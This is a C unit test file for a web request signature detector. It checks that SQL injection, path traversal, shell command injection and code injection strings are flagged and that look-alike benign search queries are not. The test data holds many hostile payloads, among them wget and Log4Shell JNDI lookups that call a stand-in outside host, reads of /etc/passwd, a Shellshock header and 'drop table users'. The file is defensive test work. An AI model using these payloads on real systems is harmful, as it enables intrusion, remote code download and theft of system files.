#include "detect/behaviour/web_sign.h"

#include "check.h"
#include "detect/behaviour/web_visit.h"

/* The kind that a target is, or WEB_ATTACK_COUNT. */
static enum web_attack kind_of(const char *target, bool was_encoded)
{
    struct web_plain plain;
    struct web_sign sign = {.kind = WEB_ATTACK_COUNT};
    web_plain_set(&plain, bytes_of_text(target));
    bool found = web_sign_find(web_plain_get(&plain), was_encoded, &sign);
    assert_int_equal(found, sign.kind != WEB_ATTACK_COUNT);
    assert_int_equal(found, sign.words.size > 0);
    return sign.kind;
}

static void knows_words_for_a_database(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/item?id=1+union+select+1,2,3",
        "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--",
        "/item?id=1/**/union/**/select/**/concat(a,b)/**/from/**/t",
        "/item?id=1%27%20or%20%271%27=%271",
        "/item?id=1+or+1=1--",
        "/item?id=1+and+1=2",
        "/item?id=1%2527%2520or%25201%253D1",
        "/item?id=1'+order+by+7--",
        "/item?id=1+and+sleep(5)",
        "/item?id=1'xor(if(now()=sysdate(),sleep(15),0))xor'z",
        "/item?id=(select+table_name+from+information_schema.tables)",
        "/item?id=1';+drop+table+users",
        "/item?id=1;waitfor+delay+'0:0:5'",
        "/item?id=1+and+2=(select+count(*)+from+a)",
        "/item?id=1+and+1=convert(int,(select+1))",
        "/login?user=admin'--",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        assert_int_equal(kind_of(targets[i], false), WEB_SQL);
    }
}

static void knows_paths_that_climb_out(void **state)
{
    (void)state;
    assert_int_equal(kind_of("/get?file=../../../../etc/passwd", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=..%2f..%2f..%2fa", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/cgi-bin/.%2e/.%2e/a", true), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=..\\..\\..\\windows\\win.ini", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/shop/WEB-INF/web.xml?", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=/etc/passwd", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=file:///etc/passwd", false), WEB_TRAVERSAL);
}

static void knows_commands_for_a_shell(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/ping?host=127.0.0.1;cat+/etc/hostname",
        "/ping?host=a|whoami",
        "/ping?host=a%26%26wget+http://198.51.100.9/a",
        "/ping?host=$(id)",
        "/ping?host=`id`",
        "/ping?host=a;/usr/bin/id",
        "/ping?host=a%20%26%20ping%20-n%203%20127.0.0.1",
        "/ping?host=|/usr/bin/whoami",
        "/ping?host=|/bin/ls+-al",
        "/ping?host=a;wget${IFS}http://198.51.100.9/a",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        assert_int_equal(kind_of(targets[i], false), WEB_COMMAND);
    }
}

static void knows_code_for_the_program(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/?x=${jndi:ldap://198.51.100.9/a}",
        "/?x=$%7B$%7Blower:j%7Dndi:a%7D",
        "/index.php?page=php://filter/convert.base64-encode/resource=index",
        "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3da",
        "/?a=%3C%3Fphp%20echo",
        "/?s=/index/think/invokefunction&function=call_user_func",
        "/?class.module.classLoader.resources=a",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        assert_int_equal(kind_of(targets[i], false), WEB_CODE);
    }
}

static void leaves_what_people_and_programs_ask_for_alone(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/search?q=select+a+phone+from+our+shop",
        "/search?q=union+select+committee",
        "/search?q=credit+union+select+savings+account",
        "/search?q=rock+'n'+roll+or+jazz",
        "/search?q=women's+shoes+and+bags",
        "/search?q=drop+table+legs",
        "/search?q=time.sleep(5)",
        "/search?q=system()+in+php",
        "/search?q=dogs;+cat+pictures",
        "/search?q=ls+|+grep",
        "/search?q=ham+%26+eggs+%26+ls",
        "/search?q=(select+one)",
        "/search?q=uname+(command)",
        "/search?q=order+by+phone",
        "/list?sort=name;id&fields=name|id",
        "/list?filter=(price>10+and+size=4)",
        "/blog/../style.css",
        "/a/../../b.css",
        "/token?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl%2B%2Fa%3D%3D",
        "/wp-admin/admin-ajax.php?action=heartbeat&_nonce=1a2b3c",
        "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,utils&ver=6.4",
        "/api/v1/items?select=id,name&where=age%3E3%20and%20name%3D%27a%27&order=name.asc",
        "/grafana?query=sum(rate(x%5B5m%5D))%20by%20(id)",
        "/login?next=/etc/",
        "/a;jsessionid=1A2B?x=1",
        "/100%",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        if (kind_of(targets[i], false) != WEB_ATTACK_COUNT) {
            fail_msg("%s", targets[i]);
        }
    }
}

static void finds_code_in_headers_but_no_prose(void **state)
{
    (void)state;
    static const struct {
        const char *header;
        bool is_sign;
    } rows[] = {
        {"() { :; }; echo a", true},
        {"${jndi:dns://198.51.100.9/a}", true},
        {"Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", false},
        {"https://www.example.test/?q=it's+a+union+select+1,2", false},
        {"curl/8.1", false},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct web_plain plain;
        struct web_sign sign;
        web_plain_set(&plain, bytes_of_text(rows[i].header));
        assert_int_equal(web_sign_find_in_header(web_plain_get(&plain), &sign),
                         rows[i].is_sign);
    }
}

static void names_every_kind(void **state)
{
    (void)state;
    for (int kind = 0; kind < WEB_ATTACK_COUNT; kind++) {
        assert_non_null(web_attack_name((enum web_attack)kind));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(knows_words_for_a_database),
        cmocka_unit_test(knows_paths_that_climb_out),
        cmocka_unit_test(knows_commands_for_a_shell),
        cmocka_unit_test(knows_code_for_the_program),
        cmocka_unit_test(leaves_what_people_and_programs_ask_for_alone),
        cmocka_unit_test(finds_code_in_headers_but_no_prose),
        cmocka_unit_test(names_every_kind),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
